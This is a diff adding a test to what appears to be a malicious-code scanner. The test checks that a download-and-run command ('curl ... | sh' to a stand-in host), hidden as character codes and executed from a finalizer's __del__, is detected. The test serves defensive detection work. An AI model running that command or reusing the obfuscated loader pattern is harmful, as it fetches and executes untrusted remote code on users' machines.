@@ -144,6 +144,17 @@ def test_numbers_handed_to_a_decoder_of_names_are_read(engine: Engine) -> None:
     assert "download_pipe_to_shell" not in _rules(_module(engine, table))
 
 
+def test_numbers_a_file_runs_as_bytes_are_read(engine: Engine) -> None:
+    command = "import os;os.system('curl -s https://x.example.net/o | sh')"
+    codes = ", ".join(str(ord(c)) for c in command)
+    code = (
+        f"class _Finalizer:\n    _c = [{codes}]\n\n    def __del__(self):\n"
+        "        exec(bytes(self._c).decode())\n\n_keep = _Finalizer()\n"
+    )
+    labels = _rules(_module(engine, code))
+    assert labels["download_pipe_to_shell"].endswith("(hidden in character codes)")
+
+
 def test_python_names_in_full_width_letters_are_read_as_python_reads_them(
     engine: Engine,
 ) -> None:
